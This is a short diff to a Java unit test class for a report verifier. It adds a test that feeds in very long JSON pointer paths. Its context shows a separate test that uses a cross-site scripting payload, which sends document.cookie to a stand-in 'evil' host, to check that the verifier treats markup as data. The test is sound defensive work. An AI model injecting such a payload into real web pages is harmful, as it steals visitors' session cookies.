@@ -310,6 +310,15 @@ class ReportVerifierTest {
     }
 
     @Test
+    void checksVeryLongStringsWithoutRunningOutOfStack() {
+        String longPath = "/a".repeat(200_000);
+        assertThat(verify(signedText(good().replace("\"path\":\"/spec/replicas\"", "\"path\":\"" + longPath + "\""))).status())
+                .isEqualTo(202);
+        assertRefused(signedText(good().replace("\"path\":\"/spec/replicas\"", "\"path\":\"" + longPath + "~\"")), 400,
+                "resources[0].diffs[0].path: not a JSON pointer: '/a/a/a");
+    }
+
+    @Test
     void keepsHtmlAndScriptPayloadsAsData() {
         String payload = "<script>fetch('//evil/'+document.cookie)</script><img src=x onerror=alert(1)>";
         Report hostile = new Report(Report.SCHEMA, "production", new AgentIdentity(payload, payload),
